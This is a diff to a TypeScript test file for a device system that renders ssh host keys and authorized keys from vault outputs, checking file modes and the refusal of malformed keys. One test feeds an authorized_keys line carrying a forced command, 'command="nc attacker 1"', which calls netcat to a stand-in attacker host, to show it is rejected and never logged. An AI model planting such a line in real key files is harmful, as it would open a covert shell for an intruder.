@@ -1,8 +1,9 @@
 // Secret files: the configuration holds templates with outputRef holes, the image only those;
 // `secrets render` fills them at service start from the outputs, into files owned by the
 // service's user and closed to everyone else, and never prints a value.
-import { spawnSync } from "node:child_process";
-import { existsSync, readFileSync, statSync, writeFileSync, mkdirSync } from "node:fs";
+import { execFileSync, spawnSync } from "node:child_process";
+import { existsSync, readFileSync, statSync, writeFileSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { compile, type SystemDescription } from "../../image/config/compile.ts";
@@ -46,7 +47,7 @@ describe("secret files in the configuration", () => {
           uid: 0,
           gid: 0,
           mode: 0o400,
-          parts: [{ service: "vault", path: "ssh/keys", as: "text" }],
+          parts: [{ service: "vault", path: "ssh/keys", as: "ssh-public-keys" }],
         },
       },
     });
@@ -234,4 +235,118 @@ describe("secrets render on the device", () => {
     );
     writeFileSync(bed.layout.secretSpecOf("app"), spec);
   });
+});
+
+describe("ssh keys that arrive as outputs, rendered on the device", () => {
+  // the ssh template's own spec: authorized keys and a host key, both from a vault's outputs
+  const vault = oneshot({ name: "vault", up: "true", outputs: ["ssh/keys", "ssh/host_key"] });
+  const sshd = ssh.svc.ssh.build({
+    hostKey: outputRef(vault, "ssh/host_key"),
+    authorizedKeys: { root: { home: "/home/root", keys: outputRef(vault, "ssh/keys") } },
+  });
+  const sys = compile(evaluate(defineConfig({ imports: [ssh], services: { vault, sshd } }), testDevice));
+  const keys = mkdtempSync(join(tmpdir(), "limen-ssh-render-"));
+  /** A new ed25519 key's private key file (as ssh-keygen writes it, with a passphrase if given). */
+  const privateKey = (name: string, passphrase = ""): string => {
+    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", passphrase, "-C", name, "-f", join(keys, name)]);
+    return readFileSync(join(keys, name), "utf8");
+  };
+  const hostKey = privateKey("host");
+  const bed = new Bed({
+    // what the test put in the bed's root: the vault's secrets, as a secrets service publishes them
+    vault: {
+      type: "oneshot",
+      outputs: ["ssh/keys", "ssh/host_key"],
+      up: "output --set vault ssh/keys < keys && output --set vault ssh/host_key < host_key",
+    },
+    sshd: {
+      type: "longrun",
+      dependencies: ["vault"],
+      outputRefs: sys.database.services["sshd"].outputRefs,
+      notificationFd: 3,
+      run: `limen secrets render sshd || exit 1\necho sshd started\necho >&3\nexec sleep 1000`,
+      finish: textOf(sys, `${onDevice.longrun("sshd")}/finish`)
+        .replace("#!/bin/sh\n", "")
+        .replaceAll(" /run/", " run/"),
+    },
+  });
+  const rendered = (name: string) => join(bed.layout.secretsOf("sshd"), name);
+  const set = (key: string, value: string) =>
+    spawnSync("output", ["--set", "vault", key], { env: bed.env, input: value }).status;
+  const refusal = () => (JSON.parse(bed.svc("--json", "status", "sshd").stdout) as { refused?: string }).refused;
+  beforeAll(async () => {
+    mkdirSync(bed.layout.secretSpecs, { recursive: true });
+    writeFileSync(bed.layout.secretSpecOf("sshd"), textOf(sys, onDevice.secretSpecOf("sshd")));
+    writeFileSync(join(bed.root, "keys"), `# the admins\n${testKeys[0]}\n\n  # and a spare\n${testKeys[1]}`);
+    writeFileSync(join(bed.root, "host_key"), hostKey);
+    await bed.start();
+  });
+  afterAll(async () => {
+    await bed.stop();
+    rmSync(keys, { recursive: true, force: true });
+  });
+
+  it("writes the host key as ssh-keygen made it and the keys as given (a line break ending them), root's alone", () => {
+    expect(bed.svc("start", "sshd").code).toBe(0);
+    expect(readFileSync(rendered("ssh_host_ed25519_key"), "utf8")).toBe(hostKey);
+    expect(readFileSync(rendered("authorized_keys.root"), "utf8")).toBe(
+      `# the admins\n${testKeys[0]}\n\n  # and a spare\n${testKeys[1]}\n`,
+    );
+    for (const name of ["ssh_host_ed25519_key", "authorized_keys.root"]) {
+      const st = statSync(rendered(name));
+      expect({ mode: st.mode & 0o7777, uid: st.uid }).toEqual({ mode: 0o400, uid: 0 });
+    }
+  });
+
+  it("refuses a key line that is not one public key: the reason names the output and the line, never the value", async () => {
+    expect(set("ssh/keys", `${testKeys[0]}\n# ok\ncommand="nc attacker 1" ${testKeys[2]}\n`)).toBe(0);
+    expect(bed.svc("restart", "sshd").code).toBe(1);
+    const reason = `${rendered("authorized_keys.root")}: output ssh/keys of vault line 3 must start with a key type (ssh-ed25519, ssh-rsa, ecdsa-sha2-nistp256, ecdsa-sha2-nistp384, ecdsa-sha2-nistp521, sk-ssh-ed25519@openssh.com, sk-ecdsa-sha2-nistp256@openssh.com): refused`;
+    expect(refusal()).toBe(reason);
+    await settle(1500);
+    expect(bed.svc("status", "sshd").stdout).toMatch(/^sshd down longrun .*refused: /);
+    expect(bed.svc("log", "sshd").stdout).toContain(`secrets: ${reason}\n`);
+    expect(bed.svc("log").stdout).not.toContain("attacker");
+    // a key whose blob names another type is refused too, naming only the types
+    set("ssh/keys", testKeys[1].replace("ssh-ed25519", "ssh-rsa"));
+    expect(bed.svc("start", "sshd").code).toBe(1);
+    expect(refusal()).toContain(
+      `output ssh/keys of vault line 1 holds a key that is not ssh-rsa ("ssh-ed25519"): refused`,
+    );
+    set("ssh/keys", `${testKeys[1]}\n`);
+    expect(bed.svc("start", "sshd").code).toBe(0);
+    expect(refusal()).toBeUndefined();
+  });
+
+  it.each([
+    [
+      "a key with a passphrase",
+      () => privateKey("locked", "a passphrase"),
+      /is protected by a passphrase, which sshd cannot type/,
+    ],
+    ["a public key", () => readFileSync(join(keys, "host.pub"), "utf8"), /is not an OpenSSH private key/],
+    [
+      "a key cut short",
+      () => hostKey.split("\n").slice(0, 3).concat(hostKey.split("\n").slice(-2)).join("\n"),
+      /truncated or damaged/,
+    ],
+  ])(
+    "refuses %s as the host key: the service stays down, and nothing of the value is logged",
+    async (_, value, problem) => {
+      const text = value();
+      expect(set("ssh/host_key", text)).toBe(0);
+      expect(bed.svc("restart", "sshd").code).toBe(1);
+      const reason = refusal();
+      expect(reason).toMatch(new RegExp(`^${rendered("ssh_host_ed25519_key")}: output ssh/host_key of vault `));
+      expect(reason).toMatch(problem);
+      await settle(1500);
+      expect(bed.svc("status", "sshd").stdout).toMatch(/^sshd down longrun /);
+      const log = bed.svc("log").stdout;
+      for (const line of text.split("\n").filter((l) => l.length > 20 && !l.startsWith("-----")))
+        expect(log).not.toContain(line);
+      expect(existsSync(rendered("ssh_host_ed25519_key"))).toBe(false);
+      set("ssh/host_key", hostKey);
+      expect(bed.svc("start", "sshd").code).toBe(0);
+    },
+  );
 });
